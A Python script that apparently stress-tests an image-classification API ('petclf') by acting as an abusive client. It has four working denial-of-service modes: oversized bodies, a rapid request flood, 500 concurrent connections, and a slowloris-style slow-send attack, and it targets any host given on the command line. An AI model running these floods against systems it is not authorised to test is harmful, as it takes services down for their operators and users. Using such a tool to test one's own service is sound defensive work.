"""One badly behaved client, for as long as it is let: python attack.py KIND HOST SECONDS. Needs nothing but Python."""

import contextlib
import json
import socket
import sys
import threading
import time
from collections import Counter

CONNECTIONS = 500
LARGE = 10_485_760
HEAD = "POST /predict HTTP/1.1\r\nHost: petclf\r\nContent-Type: image/jpeg\r\nContent-Length: {}\r\n\r\n"
seen: Counter[str] = Counter()


def answer_of(connection: socket.socket) -> str:
    with contextlib.suppress(OSError):
        return connection.recv(4096)[9:12].decode() or "cut"
    return "cut"


def send(host: str, body: bytes) -> None:
    try:
        with socket.create_connection((host, 8080), timeout=10) as connection:
            connection.sendall(HEAD.format(len(body)).encode() + body)
            seen[answer_of(connection)] += 1
    except OSError:
        seen["cut"] += 1


def repeat(host: str, body: bytes, threads: int, end: float) -> None:
    def go_on() -> None:
        while time.monotonic() < end:
            send(host, body)

    running = [threading.Thread(target=go_on) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


def large(host: str, end: float) -> None:
    """Bodies as large as they may be, that are no photos, as fast as they go."""
    repeat(host, bytes(LARGE), 8, end)


def often(host: str, end: float) -> None:
    """Small requests as fast as they go: far more than one address may send."""
    repeat(host, b"no photo", 32, end)


def many(host: str, end: float) -> None:
    """Five hundred connections with a request each, over and over."""
    repeat(host, b"no photo" * 1000, CONNECTIONS, end)


def slow(host: str, end: float) -> None:
    """Five hundred connections that send a byte a second."""
    connections: list[socket.socket] = []
    while time.monotonic() < end:
        while len(connections) < CONNECTIONS and time.monotonic() < end:
            try:
                connection = socket.create_connection((host, 8080), timeout=2)
                connection.sendall(HEAD.format(100_000).encode())
                connections.append(connection)
            except OSError:
                seen["cut"] += 1
        for connection in list(connections):
            try:
                connection.sendall(b"x")
            except OSError:
                connections.remove(connection)
                seen["cut"] += 1
        time.sleep(1)
    seen["held"] = len(connections)


ATTACKS = {"large": large, "often": often, "many": many, "slow": slow}

if __name__ == "__main__":
    ATTACKS[sys.argv[1]](sys.argv[2], time.monotonic() + float(sys.argv[3]))
    print(json.dumps(seen))
